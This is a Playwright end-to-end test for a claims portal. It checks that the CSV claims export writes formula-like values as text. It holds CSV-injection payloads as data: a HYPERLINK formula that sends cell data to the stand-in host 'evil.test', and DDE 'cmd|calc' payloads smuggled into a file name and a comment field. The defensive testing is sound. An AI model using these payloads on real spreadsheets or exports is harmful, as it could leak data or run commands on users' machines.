import { readFileSync } from 'node:fs';
import { request as playwrightRequest } from '@playwright/test';
import { api, pdfBytes } from '../support/api';
import { DEMO_PASSWORD, demo, expect, signIn, test } from '../support/fixtures';

/**
 * Issue 12 §4, "safe claims export": a creditor files a claim whose reference and comment are spreadsheet
 * formulas; the trustee exports the claims list for Excel. Every such cell starts with ' in the file, so
 * the spreadsheet shows it as text instead of running it. A fresh case: the demo data stays as it is.
 */

const run = Date.now().toString(36);
const debtor = `Exportprov ${run} AB`;
const FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"Öppna")';
/** A file name keeps no '/', so the command stays short. */
const COMMAND = "+cmd|'calc'!A0";
const SUM = '@SUM(1+1)*cmd|calc';

async function prepare(apiURL: string): Promise<number> {
  const context = await playwrightRequest.newContext({ baseURL: apiURL });
  const firm = await api<{ token: string; lawFirmId: number }>(context, 'post', '/api/Auth/login', {
    data: { EmalId: demo.firmAdmin, password: DEMO_PASSWORD },
  });
  const { caseId } = await api<{ caseId: number }>(context, 'post', '/api/Case/add', {
    token: firm.token,
    data: {
      debtorName: debtor,
      debtorOrgnr: '559999-0002',
      knr: `K ${run}-27`,
      status: 1,
      lawFirmId: firm.lawFirmId,
    },
  });
  const creditor = await api<{ token: string; creditorId: number }>(context, 'post', '/api/Creditor/login', {
    data: { emalId: demo.creditor, password: DEMO_PASSWORD },
  });
  const followed = await api<{ creditorCaseList: { caseId: number }[] }>(
    context,
    'get',
    `/api/Creditor/getSelectedCase?creditorId=${creditor.creditorId}`,
    { token: creditor.token },
  );
  await api(context, 'post', '/api/Creditor/selectCases', {
    token: creditor.token,
    data: {
      creditorId: creditor.creditorId,
      caseList: [...followed.creditorCaseList.map((c) => c.caseId), caseId],
    },
  });
  await api(context, 'post', '/api/Creditor/invoice/add', {
    token: creditor.token,
    multipart: {
      CaseId: String(caseId),
      ClaimAmount: '10',
      ClaimBasis: 'SupplierInvoice',
      ClaimRefernce: FORMULA,
      Invoicecomment: SUM,
      File: { name: `${COMMAND}.pdf`, mimeType: 'application/pdf', buffer: pdfBytes('formula') },
    },
  });
  await context.dispose();
  return caseId;
}

test('the claims export writes formula-like cells as text', async ({ page, portal }) => {
  const caseId = await prepare(portal.apiURL);
  await signIn(page, demo.firmAdmin);
  await page.goto(`/dashboard?case=${caseId}#claims`);
  const panel = page.getByRole('tabpanel');
  await expect(panel.getByRole('listitem')).toHaveCount(1);
  const exporting = page.waitForEvent('download');
  await panel.getByRole('button', { name: 'Export (CSV)' }).click();
  const text = readFileSync(await (await exporting).path())
    .subarray(3)
    .toString('utf8');
  const cells = text.split('\r\n')[1]?.split(';') ?? [];
  expect(cells[0]).toBe(`'${COMMAND}.pdf`);
  expect(cells[6]).toBe(`"'${FORMULA.replace(/"/g, '""')}"`);
  expect(cells[11]).toBe(`'${SUM}`);
  for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
});
